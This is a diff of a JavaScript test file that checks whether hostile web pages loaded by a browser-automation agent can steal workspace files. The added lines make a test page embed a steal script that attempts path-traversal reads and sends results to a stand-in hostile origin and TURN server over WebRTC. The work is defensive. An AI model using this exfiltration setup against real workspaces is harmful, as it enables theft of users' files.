@@ -85,9 +85,12 @@ describe("browser workspace exfiltration", () => {
 
   test("a foreign page cannot fetch, XHR or frame workspace files", async () => {
     const before = evil.received.length;
+    const packetsBefore = evil.turnPackets;
     await ok(c, "navigate", { url: `${evil.origin}/steal` });
     const deadline = Date.now() + 10_000;
-    while (evil.received.length === before && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+    while ((evil.received.length === before || evil.turnPackets === packetsBefore) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
+    // a foreign page keeps WebRTC: this shows the TURN channel the workspace test relies on is live
+    assert.ok(evil.turnPackets > packetsBefore, "the foreign page's WebRTC reached the TURN port");
     const sent = evil.received.slice(before).join("\n");
     assert.match(sent, /fetch failed/, `the page ran its reads and sent what it got: ${sent.slice(0, 300)}`);
     await assertNothingStolen(0);
@@ -106,7 +109,8 @@ describe("browser workspace exfiltration", () => {
 
   test("a page the agent saved in the workspace runs but cannot read its siblings, and sends nothing anywhere", async () => {
     const before = evil.received.length;
-    write("saved/page.html", `<!doctype html><title>Saved</title><body><p>saved earlier</p><script>${stealScript(evil.origin, STOLEN.map((f) => `..${f}`))}</script>`);
+    const packetsBefore = evil.turnPackets;
+    write("saved/page.html", `<!doctype html><title>Saved</title><body><p>saved earlier</p><script>${stealScript(evil.origin, STOLEN.map((f) => `..${f}`), evil.turnPort)}</script>`);
     await ok(c, "navigate", { url: fileUrl("saved/page.html") });
     await ok(c, "wait_for", { time: 3 });
     await assertNothingStolen();
@@ -115,6 +119,8 @@ describe("browser workspace exfiltration", () => {
     assert.match(messages, /stolen: fetch failed.*xhr failed.*frame failed/s, "the page's script ran and every read failed");
     assert.doesNotMatch(messages, new RegExp(SECRET));
     assert.deepEqual(evil.received.slice(before), [], "not even the failures reached the hostile site (beacon, fetch, image, popup, location)");
+    assert.match(messages, /webrtc failed/);
+    assert.equal(evil.turnPackets, packetsBefore, "nothing reached the hostile TURN server");
     assert.match(textOf(await ok(c, "snapshot")), /A workspace page may not open other sites/);
   });
 
